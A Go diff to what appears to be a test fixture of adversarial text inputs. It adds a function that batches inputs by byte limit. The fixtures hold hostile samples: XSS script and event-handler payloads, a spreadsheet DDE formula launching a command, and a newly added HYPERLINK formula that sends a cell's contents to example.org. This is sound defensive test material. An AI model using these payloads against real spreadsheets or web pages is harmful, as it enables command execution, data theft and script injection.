@@ -36,8 +36,8 @@ func All() []Text {
 		{"bidirectional", "a\u202e3-high\u202c\u2066b\u2069\u200f\u061cz", true},
 		{"zero width", "A" + strings.Repeat("\u200b", 60) + "d\u200da\u2060\ufeff\u00ad\u2063z", true},
 		{"smuggled", "a\U000E0068\U000E0069\U000E0001\ufe0f\U000E0158z", true},
-		{"combining flood", "a" + strings.Repeat("\u0301\u0489", 80) + "z", true},
-		{"cluster flood", "a" + strings.Repeat("👩\u200d", 30) + "👩" + strings.Repeat("ᄀ", 40) + "z", true},
+		{"combining flood", "a" + strings.Repeat("\u0301\u0489", 60) + "z", true},
+		{"cluster flood", "a" + strings.Repeat("👩\u200d", 20) + "👩" + strings.Repeat("ᄀ", 40) + "z", true},
 		{"fillers", "a\u115f\u3164\u034f\uffa0\u2800z", true},
 		{"long word", "a" + strings.Repeat("Donaudampfschiff", 20) + "z", true},
 		{"right to left", "aالخوارزمي שלום 123 (abc)z", true},
@@ -47,6 +47,7 @@ func All() []Text {
 		{"formula of minus", `-2+3+cmd|' /C calc'!A0`, true},
 		{"formula behind a space", " \u00a0=1+1", true},
 		{"full-width formula", "＝1+1", true},
+		{"formula behind a semicolon", `a;=HYPERLINK("http://example.org/?"&A1);"=1+1`, true},
 		{"cells", "a\",\"=1+1\";\"=1+1\"\t=1+1|z", false},
 		{"element", `a</td></title><script>alert(1)</script><img src=http://example.org onerror=alert(1)>&lt;z`, true},
 		{"attribute", `a" onmouseover="alert(1)" style='x' x=z`, true},
@@ -55,4 +56,27 @@ func All() []Text {
 		{"YAML", `a: {b: *c, "d": !!e [f]} # z`, true},
 		{"percent", "a%s%d%!v(MISSING)%%z", true},
 	}
+}
+
+// Together is the same in few: texts of one kind one behind the other, as many as so many
+// bytes hold, for places that are slow to feed. Of the formulas only the first of each
+// begins anything.
+func Together(most int) []Text {
+	var few []Text
+	for _, rubric := range []bool{false, true} {
+		last := -1
+		for _, t := range All() {
+			switch {
+			case t.Rubric != rubric:
+				continue
+			case last >= 0 && len(few[last].Text)+len(t.Text) <= most:
+				few[last].Name += ", " + t.Name
+				few[last].Text += t.Text
+				continue
+			}
+			few = append(few, t)
+			last = len(few) - 1
+		}
+	}
+	return few
 }
